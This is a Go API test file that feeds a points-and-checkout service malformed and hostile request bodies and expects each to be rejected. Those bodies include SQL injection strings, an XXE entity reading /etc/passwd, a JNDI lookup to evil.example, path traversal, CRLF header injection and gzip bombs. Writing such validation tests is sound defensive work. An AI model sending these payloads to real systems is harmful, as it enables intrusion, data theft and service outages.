package api_test

import (
	"bytes"
	"compress/gzip"
	"io"
	"strings"
)

const spend = "POST /points/spend"

// jsonAttacks are bodies that are not one JSON value of the declared form. Readers of JSON differ about them, so one
// part of a system could see another amount than the next.
var jsonAttacks = []attack{
	{"a member twice", user, spend, "", `{"amount":1,"amount":99}`, "400 validation"},
	{"a member twice, once escaped", user, spend, "", `{"amount":1,"\u0061mount":99}`, "400 validation"},
	{"a member twice below", user, spend, "", `{"amount":1,"metadata":{"a":"1","a":"2"}}`, "400 validation"},
	{"a member in other case", user, spend, "", `{"AMOUNT":1}`, "400 validation"},
	{"a member in two cases", user, spend, "", `{"amount":1,"Amount":99}`, "400 validation"},
	{"a member with a long s", user, spend, "", `{"amount":1,"de\u017fcription":"x"}`, "400 validation"},
	{"an unknown member", user, spend, "", `{"amount":1,"discount":100}`, "400 validation"},
	{"a member that is empty", user, spend, "", `{"amount":1,"":1}`, "400 validation"},
	{"a price beside the action", user, spend, "", `{"action":"picture","points":1}`, "400 validation"},
	{"an amount beside the action", user, spend, "", `{"action":"picture","amount":1}`, "400 validation"},
	{"a quantity beside the amount", user, spend, "", `{"amount":1,"quantity":1}`, "400 validation"},
	{"less than none of an action", user, spend, "", `{"action":"picture","quantity":-1}`, "400 validation"},
	{"a part of an action", user, spend, "", `{"action":"picture","quantity":0.5}`, "400 validation"},
	{"more of an action than there is a number for", user, spend, "", `{"action":"picture","quantity":9223372036854775808}`, "400 validation"},
	{"an action that does not exist", user, spend, "", `{"action":"$VICTIM"}`, "400 validation"},
	{"an action with SQL in it", user, spend, "", `{"action":"picture' OR 1=1 --"}`, "400 validation"},
	{"a list of actions", user, spend, "", `{"action":["picture"]}`, "400 validation"},
	{"a hold of an action with a price", user, "POST /points/holds", "", `{"action":"picture","points":1}`, "400 validation"},
	{"no body", user, spend, "Content-Type: application/json\r\nContent-Length: 0\r\n", "", "400 validation"},
	{"no member", user, spend, "", `{}`, "400 validation"},
	{"null", user, spend, "", `null`, "400 validation"},
	{"a list", user, spend, "", `[{"amount":1}]`, "400 validation"},
	{"a text", user, spend, "", `"{\"amount\":1}"`, "400 validation"},
	{"a number", user, spend, "", `1`, "400 validation"},
	{"two values", user, spend, "", `{"amount":1}{"amount":1}`, "400 validation"},
	{"a value on the next line", user, spend, "", "{\"amount\":1}\n{\"amount\":1}", "400 validation"},
	{"something after the value", user, spend, "", `{"amount":1}]`, "400 validation"},
	{"cut off", user, spend, "", `{"amount":1`, "400 validation"},
	{"a comma too many", user, spend, "", `{"amount":1,}`, "400 validation"},
	{"a comment", user, spend, "", `{"amount":1/* 99 */}`, "400 validation"},
	{"a comment at the end", user, spend, "", "{\"amount\":1}// 99", "400 validation"},
	{"single quotes", user, spend, "", `{'amount':1}`, "400 validation"},
	{"no quotes", user, spend, "", `{amount:1}`, "400 validation"},
	{"JSONP", user, spend, "", `f({"amount":1})`, "400 validation"},
	{"a prefix against hijacking", user, spend, "", ")]}'\n{\"amount\":1}", "400 validation"},
	{"a byte order mark", user, spend, "", "\ufeff{\"amount\":1}", "400 validation"},
	{"UTF-16", user, spend, "", "\xfe\xff\x00{\x00}", "400 validation"},
	{"XML", user, spend, "", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><amount>&x;</amount>`, "400 validation"},
	{"YAML", user, spend, "", "amount: 1\n", "400 validation"},
	{"a form", user, spend, "", `amount=1`, "400 validation"},
	{"deep objects", user, spend, "", strings.Repeat(`{"a":`, 12_000) + "1", "400 validation"},
	{"deep lists", user, spend, "", strings.Repeat("[", 60_000), "400 validation"},
	{"deep and closed", user, spend, "", strings.Repeat("[", 30_000) + strings.Repeat("]", 30_000), "400 validation"},
	{"deep metadata", user, spend, "", `{"amount":1,"metadata":` + strings.Repeat(`{"a":`, 9000) + `1` + strings.Repeat("}", 9001), "400 validation"},
	{"many members", user, spend, "", `{"amount":1` + strings.Repeat(`,"a":1`, 9000) + "}", "400 validation"},
	{"one long text", user, spend, "", `{"amount":1,"description":"` + strings.Repeat("x", 60_000) + `"}`, "400 validation"},
	{"one byte too many", user, spend, "", `{"amount":1,"description":"` + strings.Repeat("x", 65_537) + `"}`, "413 payload-too-large"},
	{"a gigabyte that is announced", user, spend, "Content-Type: application/json\r\nContent-Length: 1073741824\r\n", "", "413 payload-too-large"},
	{"too much without an announcement", user, spend, "Transfer-Encoding: chunked\r\n", "11170\r\n" + strings.Repeat(" ", 70_000) + "\r\n0\r\n\r\n", "413 payload-too-large"},
	{"a body where none is wanted", user, "GET /points", "", `{"amount":1}`, "400 validation"},
	{"a large body where none is wanted", user, "GET /points", "", strings.Repeat(" ", 70_000), "413 payload-too-large"},
	{"a body of a release", user, "POST /points/holds/$HOLD/release", "", `{"amount":1}`, "400 validation"},
	{"an unknown member of a login", anonymous, "POST /auth/login", "", `{"email":"$EMAIL","password":"x","role":"admin"}`, "400 validation"},
	{"a login with an object as the password", anonymous, "POST /auth/login", "", `{"email":"$EMAIL","password":{"$ne":""}}`, "400 validation"},
	{"a login with a list as the email", anonymous, "POST /auth/login", "", `{"email":["$EMAIL"],"password":"x"}`, "400 validation"},
}

// numberAttacks are amounts that are no whole number of points, or more than there can be.
var numberAttacks = []attack{
	{"zero", user, spend, "", `{"amount":0}`, "400 validation"},
	{"minus zero", user, spend, "", `{"amount":-0}`, "400 validation"},
	{"minus one", user, spend, "", `{"amount":-1}`, "400 validation"},
	{"a half", user, spend, "", `{"amount":0.5}`, "400 validation"},
	{"one with a fraction of zero", user, spend, "", `{"amount":1.0}`, "400 validation"},
	{"one with an exponent", user, spend, "", `{"amount":1e0}`, "400 validation"},
	{"ten with a negative exponent", user, spend, "", `{"amount":10e-1}`, "400 validation"},
	{"almost one", user, spend, "", `{"amount":0.99999999999999999999}`, "400 validation"},
	{"a huge exponent", user, spend, "", `{"amount":1e999999999}`, "400 validation"},
	{"a tiny exponent", user, spend, "", `{"amount":1e-999999999}`, "400 validation"},
	{"the largest int64", user, spend, "", `{"amount":9223372036854775807}`, "400 validation"},
	{"one more", user, spend, "", `{"amount":9223372036854775808}`, "400 validation"},
	{"the smallest int64", user, spend, "", `{"amount":-9223372036854775808}`, "400 validation"},
	{"2^64 + 1", user, spend, "", `{"amount":18446744073709551617}`, "400 validation"},
	{"2^32 + 1", user, "POST /points/holds", "", `{"amount":1,"ttl_seconds":4294967297}`, "400 validation"},
	{"2^53 + 1", user, spend, "", `{"amount":9007199254740993}`, "400 validation"},
	{"more than there can be", user, spend, "", `{"amount":8796093022209}`, "400 validation"},
	{"a thousand digits", user, spend, "", `{"amount":1` + strings.Repeat("0", 1000) + `}`, "400 validation"},
	{"NaN", user, spend, "", `{"amount":NaN}`, "400 validation"},
	{"Infinity", user, spend, "", `{"amount":Infinity}`, "400 validation"},
	{"minus Infinity", user, spend, "", `{"amount":-Infinity}`, "400 validation"},
	{"hexadecimal", user, spend, "", `{"amount":0x1}`, "400 validation"},
	{"octal", user, spend, "", `{"amount":01}`, "400 validation"},
	{"a plus", user, spend, "", `{"amount":+1}`, "400 validation"},
	{"an underscore", user, spend, "", `{"amount":1_000}`, "400 validation"},
	{"Arabic digits", user, spend, "", `{"amount":١}`, "400 validation"},
	{"a number as a text", user, spend, "", `{"amount":"1"}`, "400 validation"},
	{"a list of one number", user, spend, "", `{"amount":[1]}`, "400 validation"},
	{"an object", user, spend, "", `{"amount":{"$gt":0}}`, "400 validation"},
	{"true", user, spend, "", `{"amount":true}`, "400 validation"},
	{"null as the amount", user, spend, "", `{"amount":null}`, "400 validation"},
	{"minus one held", user, "POST /points/holds", "", `{"amount":-1}`, "400 validation"},
	{"a hold of no time", user, "POST /points/holds", "", `{"amount":1,"ttl_seconds":0}`, "400 validation"},
	{"a hold for a negative time", user, "POST /points/holds", "", `{"amount":1,"ttl_seconds":-1}`, "400 validation"},
	{"a hold for a month", user, "POST /points/holds", "", `{"amount":1,"ttl_seconds":2592000}`, "400 validation"},
	{"minus one pack", user, "POST /checkout", "", `{"item":"pack_100","quantity":-1}`, "400 validation"},
	{"no pack", user, "POST /checkout", "", `{"item":"pack_100","quantity":0}`, "400 validation"},
	{"a million packs", user, "POST /checkout", "", `{"item":"pack_100","quantity":1000000}`, "400 validation"},
	{"packs that overflow the price", user, "POST /checkout", "", `{"item":"pack_100","quantity":9223372036854775807}`, "400 validation"},
	{"two and a half packs", user, "POST /checkout", "", `{"item":"pack_100","quantity":2.5}`, "400 validation"},
	{"a gift of less than nothing", worker, "POST /accounts/$ACCOUNT/grants", "Idempotency-Key: k\r\n", `{"amount":-100,"reference":"r"}`, "400 validation"},
	{"a spend of less than nothing by a service", worker, "POST /accounts/$ACCOUNT/spends", "Idempotency-Key: k\r\n", `{"amount":-100}`, "400 validation"},
	{"a correction of less than nothing", admin, "POST /admin/accounts/$ACCOUNT/corrections", "Idempotency-Key: k\r\n", `{"amount":-100,"reason":"r"}`, "400 validation"},
	{"a negative threshold", user, "PUT /points/threshold", "", `{"points":-1}`, "400 validation"},
}

// textAttacks are texts that no database could keep, that people do not see as they are, or that break out of where
// they are written.
var textAttacks = []attack{
	{"NUL, escaped", user, spend, "", `{"amount":1,"description":"a\u0000b"}`, "400 validation"},
	{"NUL, raw", user, spend, "", "{\"amount\":1,\"description\":\"a\x00b\"}", "400 validation"},
	{"NUL in a name", user, spend, "", `{"amount":1,"metadata":{"a\u0000":"b"}}`, "400 validation"},
	{"a line end, raw", user, spend, "", "{\"amount\":1,\"description\":\"a\nb\"}", "400 validation"},
	{"half a surrogate", user, spend, "", `{"amount":1,"description":"\ud800"}`, "400 validation"},
	{"the other half", user, spend, "", `{"amount":1,"description":"\udc00"}`, "400 validation"},
	{"two halves in the wrong order", user, spend, "", `{"amount":1,"description":"\udc00\ud800"}`, "400 validation"},
	{"a surrogate as UTF-8", user, spend, "", "{\"amount\":1,\"description\":\"\xed\xa0\x80\"}", "400 validation"},
	{"an overlong slash", user, spend, "", "{\"amount\":1,\"description\":\"\xc0\xaf\"}", "400 validation"},
	{"an overlong NUL", user, spend, "", "{\"amount\":1,\"description\":\"\xc0\x80\"}", "400 validation"},
	{"beyond Unicode", user, spend, "", "{\"amount\":1,\"description\":\"\xf4\x90\x80\x80\"}", "400 validation"},
	{"half a letter", user, spend, "", "{\"amount\":1,\"description\":\"\xe2\x82\"}", "400 validation"},
	{"Latin-1", user, spend, "", "{\"amount\":1,\"description\":\"\xfc\"}", "400 validation"},
	{"an unknown escape", user, spend, "", `{"amount":1,"description":"\x41"}`, "400 validation"},
	{"a description of 501 letters", user, spend, "", `{"amount":1,"description":"` + strings.Repeat("ä", 501) + `"}`, "400 validation"},
	{"metadata under no name", user, spend, "", `{"amount":1,"metadata":{"":"v"}}`, "400 validation"},
	{"metadata under a long name", user, spend, "", `{"amount":1,"metadata":{"` + strings.Repeat("k", 41) + `":"v"}}`, "400 validation"},
	{"metadata of a long value", user, spend, "", `{"amount":1,"metadata":{"k":"` + strings.Repeat("v", 501) + `"}}`, "400 validation"},
	{"an email that reads backwards", anonymous, register, "", `{"email":"ada\u202e@example.com","password":"correct horse battery"}`, "400 validation"},
	{"an email with a letter of no width", anonymous, register, "", `{"email":"a\u200bda@example.com","password":"correct horse battery"}`, "400 validation"},
	{"an email with a soft hyphen in its domain", anonymous, register, "", `{"email":"ada@exa\u00admple.com","password":"correct horse battery"}`, "400 validation"},
	{"two emails", anonymous, register, "", `{"email":"ada@example.com,eve@example.com","password":"correct horse battery"}`, "400 validation"},
	{"an email with a line end", anonymous, register, "", `{"email":"ada@example.com\r\nBcc: eve@example.com","password":"correct horse battery"}`, "400 validation"},
	{"an email with a NUL", anonymous, register, "", `{"email":"ada@example.com\u0000","password":"correct horse battery"}`, "400 validation"},
	{"an email with quotes", anonymous, register, "", `{"email":"\"ada' --\"@example.com","password":"correct horse battery"}`, "400 validation"},
	{"an email at an address", anonymous, register, "", `{"email":"ada@[127.0.0.1]","password":"correct horse battery"}`, "400 validation"},
	{"an email of 300 letters", anonymous, register, "", `{"email":"` + strings.Repeat("a", 290) + `@example.com","password":"correct horse battery"}`, "400 validation"},
	{"a password of 129 letters", anonymous, register, "", `{"email":"ada@example.com","password":"` + strings.Repeat("p", 129) + `"}`, "400 validation"},
	{"a password of 60,000 letters", anonymous, "POST /auth/login", "", `{"email":"ada@example.com","password":"` + strings.Repeat("p", 60_000) + `"}`, "400 validation"},
	{"SQL in the email", anonymous, "POST /auth/login", "", `{"email":"x' OR '1'='1' --@example.com","password":"x"}`, "400 validation"},
	{"SQL in the email, without spaces", anonymous, "POST /auth/login", "", `{"email":"'or'1'='1'--@example.com","password":"x"}`, "401 unauthorized"},
	{"SQL in a refresh token", anonymous, "POST /auth/refresh", "", `{"refresh_token":"psr_' OR '1'='1.x"}`, "401 unauthorized"},
	{"SQL in an item", user, "POST /checkout", "", `{"item":"pack_100'; DROP TABLE orders; --"}`, "400 validation"},
	{"SQL in an order's id", user, "GET /checkout/ord_'%20OR%20'1'='1", "", "", "400 validation"},
	{"SQL in a hold's id", user, "GET /points/holds/hld_01jd0000000000000000000000'--", "", "", "400 validation"},
	{"SQL in a cursor", user, "GET /points/entries?cursor=ent_01jd0000000000000000000000'%20OR%201=1", "", "", "400 validation"},
	{"SQL in a limit", user, "GET /points/entries?limit=1;DELETE%20FROM%20entries", "", "", "400 validation"},
	{"SQL in a customer's id", worker, "GET /accounts/acc_'%20UNION%20SELECT%201--/points", "", "", "400 validation"},
	{"SQL in an external id", worker, "GET /accounts?external_id='OR'1'='1", "", "", "200"},
	{"a wild card in an external id", worker, "GET /accounts?external_id=%25", "", "", "200"},
	{"SQL in an email that an admin looks for", admin, "GET /admin/accounts?email='OR'1'='1@example.com", "", "", "200"},
	{"a wild card in an email that an admin looks for", admin, "GET /admin/accounts?email=%25@example.com", "", "", "200"},
	{"a line end in an item", user, "POST /checkout", "", `{"item":"pack_100\r\nSet-Cookie: a=b"}`, "400 validation"},
	{"a line end in an address", user, "POST /checkout", "", `{"item":"pack_100","success_url":"https://shop.example/\r\nSet-Cookie: a=b"}`, "400 validation"},
	{"a template", user, "POST /checkout", "", `{"item":"${jndi:ldap://evil.example/a}"}`, "400 validation"},
	{"a path as an item", user, "POST /checkout", "", `{"item":"../../etc/passwd"}`, "400 validation"},
	{"a reason that shows nothing", admin, "POST /admin/accounts/$ACCOUNT/grants", "Idempotency-Key: k\r\n", `{"amount":1,"reason":"\u200b\u200b"}`, "400 validation"},
	{"a key's name that shows nothing", admin, "POST /admin/keys", "", `{"name":"\u3164","scopes":["read"]}`, "400 validation"},
}

const register = "POST /auth/register"

// typeAttacks send a body as something else than the JSON that it must be.
var typeAttacks = []attack{
	{"no type", user, spend, "Content-Type: \r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"a form", user, spend, "Content-Type: application/x-www-form-urlencoded\r\n", `amount=1`, "415 unsupported-media-type"},
	{"JSON as a form, which needs no preflight", user, spend, "Content-Type: application/x-www-form-urlencoded\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"JSON as text, which needs no preflight", user, spend, "Content-Type: text/plain\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"text that says JSON", user, spend, "Content-Type: text/plain; application/json\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"a form in parts", user, spend, "Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\nContent-Disposition: form-data; name=\"amount\"\r\n\r\n1\r\n--b--\r\n", "415 unsupported-media-type"},
	{"XML", user, spend, "Content-Type: application/xml\r\n", `<amount>1</amount>`, "415 unsupported-media-type"},
	{"a JSON patch", user, spend, "Content-Type: application/json-patch+json\r\n", `[{"op":"add","path":"/amount","value":1}]`, "415 unsupported-media-type"},
	{"another JSON", user, spend, "Content-Type: application/vnd.api+json\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"two types in one", user, spend, "Content-Type: application/json, text/plain\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"a broken type", user, spend, "Content-Type: application/json; charset\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"a long type", user, spend, "Content-Type: application/" + strings.Repeat("j", 9000) + "\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"gzip that is none", user, spend, "Content-Encoding: gzip\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"gzip", user, spend, "Content-Encoding: gzip\r\n", zipped(`{"amount":1}`, 1), "415 unsupported-media-type"},
	{"a gzip bomb of 40 MB", user, spend, "Content-Encoding: gzip\r\n", zipped(" ", 40<<20), "415 unsupported-media-type"},
	{"a gzip bomb that is not announced", user, spend, "", zipped(" ", 40<<20), "400 validation"},
	{"a gzip bomb as a webhook", anonymous, "POST /webhook", "Content-Encoding: gzip\r\nStripe-Signature: $SIGNED\r\n", zipped(" ", 40<<20), "400 validation"},
	{"deflate", user, spend, "Content-Encoding: deflate\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"two codings", user, spend, "Content-Encoding: gzip, br\r\n", `{"amount":1}`, "415 unsupported-media-type"},
	{"a coding of which no one knows", user, spend, "Content-Encoding: rot13\r\n", `{"amount":1}`, "415 unsupported-media-type"},
}

// zipped returns a text, n times, as gzip has it.
func zipped(text string, n int) string {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	for block := strings.Repeat(text, min(n, 1<<20)); n > 0; n -= 1 << 20 {
		_, _ = io.WriteString(z, block) // a buffer takes everything
	}
	_ = z.Close()
	return out.String()
}
